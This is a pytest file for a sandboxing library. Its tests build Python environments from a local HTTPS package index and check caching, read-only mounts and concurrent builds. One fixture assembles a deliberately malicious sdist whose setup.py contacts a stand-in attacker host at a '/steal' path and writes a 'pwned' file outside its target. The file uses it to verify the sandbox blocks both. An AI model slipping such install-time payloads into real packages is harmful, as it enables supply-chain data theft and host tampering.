"""Environments built in a strict sandbox from a loopback package index (no PyPI).

The index is a PEP 503 simple index the test serves over HTTPS on 127.0.0.1 (a CA the
test makes, trusted by pip through the build's ``cert_pem``); the build sandbox's
network lists its name (mapped to 127.0.0.1 by the test's resolver) and port only.
"""

from __future__ import annotations

import hashlib
import io
import os
import sys
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from netservers import MapResolver, build_wheel, http_server

import corral
from corral.core.errors import ConfigInvalidError, ProviderError
from corral.core.spec import SandboxSpec
from corral.envs import BuildOptions, EnvStore, build_environment, stats
from corral.envs.store import ENV_MOUNT

pytestmark = pytest.mark.linux
PY = sys.executable


def index_files(dists: dict[str, list[tuple[str, bytes]]]) -> dict[str, bytes]:
    """A simple index of several projects: {project: [(file name, bytes)]}."""
    files = {"/simple/": "".join(f'<a href="/simple/{n}/">{n}</a>' for n in dists).encode()}
    for name, found in dists.items():
        links = "".join(f'<a href="/files/{fn}#sha256={hashlib.sha256(b).hexdigest()}">'
                        f"{fn}</a>" for fn, b in found)
        files[f"/simple/{name}/"] = f"<html><body>{links}</body></html>".encode()
        for fn, b in found:
            files[f"/files/{fn}"] = b
    return files


def evil_sdist(marker: str, port: int) -> tuple[str, bytes]:
    """An sdist whose build back end (its setup.py, named as the in-tree back end) first
    asks an unlisted host for something, then writes outside its target."""
    setup = f'''
import urllib.request
try:  # an unlisted host, through the sandbox's proxy
    urllib.request.urlopen("https://evil.test:{port}/steal", timeout=10).read()
except Exception as e:
    print("network refused:", e)
with open({marker!r}, "w") as f:  # outside the target: the host's interpreter prefix
    f.write("pwned")

def build_wheel(*a, **k):
    raise SystemExit("never reached")
'''
    files = {
        "evil-1.0/pyproject.toml": (
            '[build-system]\nrequires = []\nbuild-backend = "setup"\nbackend-path = ["."]\n'),
        "evil-1.0/setup.py": setup,
        "evil-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o644
            t.addfile(info, io.BytesIO(data))
    return "evil-1.0.tar.gz", buf.getvalue()


class Refusing:
    """A provider whose ``create`` fails: proof that a cache hit used no sandbox."""

    name = "refusing"
    levels = frozenset({corral.Level.STRICT})
    capabilities = frozenset({"strict"})

    async def create(self, spec: Any, **_k: Any) -> Any:
        raise AssertionError("a cache hit must not create a sandbox")


def _opts(port: int, ca_pem: bytes, **kw: Any) -> BuildOptions:
    return BuildOptions(index_url=f"https://pypi.test:{port}/simple/",
                        index_hosts=(f"pypi.test:{port}", f"127.0.0.1/32:{port}"),
                        cert_pem=ca_pem, timeout_s=180, **kw)


def test_build_use_hit_and_rebuild(linux: Any, test_ca: Callable[..., Any],
                                   tmp_path: Path) -> None:
    ca = test_ca("pypi.test")
    v1 = build_wheel("corraltoy", "1.0", "ANSWER = 1\n")
    v2 = build_wheel("corraltoy", "2.0", "ANSWER = 2\n")
    store = EnvStore(tmp_path / "envs")
    with http_server(index_files({"corraltoy": [v1, v2]}), ca.server_context()) as index:
        async def test(p: Any) -> None:
            opts = _opts(index.port, ca.ca_pem)
            before = stats["sandbox_builds"]
            env = await build_environment("toy", ["corraltoy==1.0"], options=opts,
                                          store=store, provider=p)
            assert stats["sandbox_builds"] == before + 1
            assert env.modules == {"corraltoy"} and env.name == "toy"
            assert (env.site / "corraltoy" / "__init__.py").read_text() == "ANSWER = 1\n"
            assert not os.access(env.site / "corraltoy" / "__init__.py", os.W_OK) or \
                os.geteuid() == 0  # root ignores modes; the mode says read-only
            assert (env.site.stat().st_mode & 0o222) == 0
            # used by a sandbox: read-only at ENV_MOUNT, on PYTHONPATH
            async with await p.create(SandboxSpec(environment=env.digest)) as sb:
                r = await sb.exec([PY, "-c", "import corraltoy; print(corraltoy.ANSWER, "
                                   "corraltoy.__file__)"])
                assert r.stdout_text.split() == ["1", f"{ENV_MOUNT}/corraltoy/__init__.py"], \
                    r.stderr_text
                r = await sb.exec([PY, "-c", f"open('{ENV_MOUNT}/x', 'w')"])
                assert r.exit_code != 0 and "Read-only file system" in r.stderr_text
            seen = len(index.requests)
            # the same inputs: a cache hit, no sandbox (the provider refuses) and no request
            again = await build_environment("toy-again", "corraltoy==1.0\n# same\n",
                                            options=opts, store=store, provider=Refusing())
            assert again.digest == env.digest and len(index.requests) == seen
            assert stats["sandbox_builds"] == before + 1
            # a changed requirement: built anew, another digest, the old one kept
            new = await build_environment("toy", ["corraltoy==2.0"], options=opts,
                                          store=store, provider=p)
            assert new.digest != env.digest and stats["sandbox_builds"] == before + 2
            assert (new.site / "corraltoy" / "__init__.py").read_text() == "ANSWER = 2\n"
            assert store.get("toy").digest == new.digest
            assert store.get("toy-again").digest == env.digest
            assert list((store.root / "tmp").iterdir()) == []

        linux(test, egress_resolver=MapResolver({"pypi.test": ["127.0.0.1"]}), spares=0,
              env_store_dir=str(store.root))


def test_a_missing_environment_is_refused_typed(linux: Any, tmp_path: Path) -> None:
    async def test(p: Any) -> None:
        with pytest.raises(ConfigInvalidError) as e:
            await p.create(SandboxSpec(environment="no-such-env"))
        assert e.value.field == "environment"

    linux(test, env_store_dir=str(tmp_path / "envs"))


def test_a_malicious_sdist_fails_typed_and_the_host_is_unchanged(
        linux: Any, test_ca: Callable[..., Any], tmp_path: Path) -> None:
    ca = test_ca("pypi.test")
    marker = os.path.join(sys.prefix, f"corral-envs-evil-{os.getpid()}")
    # control: unsandboxed, this process can write there (the write is what is refused)
    Path(marker).write_text("control")
    os.unlink(marker)
    store = EnvStore(tmp_path / "envs")
    with http_server(index_files({"corraltoy": [], "evil": []}), ca.server_context()) as idx:
        sdist = evil_sdist(marker, idx.port)
        with http_server(index_files({"evil": [sdist]}), ca.server_context()) as index:
            async def test(p: Any) -> None:
                opts = _opts(index.port, ca.ca_pem, allow_source=True)
                with pytest.raises(ProviderError) as e:
                    await build_environment("evil", ["evil"], options=opts, store=store,
                                            provider=p)
                msg = str(e.value)
                assert "evil.test (not-allowed)" in msg, msg
                assert "Read-only file system" in msg or "Permission denied" in msg, msg
                # wheels only (the default): the sdist is never built, nothing runs
                with pytest.raises(ProviderError) as e2:
                    await build_environment("evil", ["evil"], store=store, provider=p,
                                            options=_opts(index.port, ca.ca_pem))
                assert "evil.test" not in str(e2.value)

            linux(test, egress_resolver=MapResolver({"pypi.test": ["127.0.0.1"],
                                                     "evil.test": ["127.0.0.1"]}), spares=0)
            assert not any(q[1] == "/steal" for q in index.requests + idx.requests)
    assert not os.path.exists(marker)
    assert store.all() == [] and list((store.root / "tmp").iterdir()) == []
    assert "evil" not in store.names()


def test_concurrent_builds_of_one_key_build_once(linux: Any, test_ca: Callable[..., Any],
                                                 tmp_path: Path) -> None:
    ca = test_ca("pypi.test")
    store = EnvStore(tmp_path / "envs")
    with http_server(index_files({"corraltoy": [build_wheel("corraltoy", "1.0", "A = 1\n")]}),
                     ca.server_context()) as index:
        async def test(p: Any) -> None:
            import asyncio
            opts = _opts(index.port, ca.ca_pem)
            before = stats["sandbox_builds"]
            a, b = await asyncio.gather(
                build_environment("one", ["corraltoy"], options=opts, store=store, provider=p),
                build_environment("two", ["corraltoy"], options=opts, store=store, provider=p))
            assert a.digest == b.digest
            assert stats["sandbox_builds"] == before + 1  # the second waited, then hit
            assert [e.digest for e in store.all()] == [a.digest]
            assert list((store.root / "tmp").iterdir()) == []

        linux(test, egress_resolver=MapResolver({"pypi.test": ["127.0.0.1"]}), spares=0)
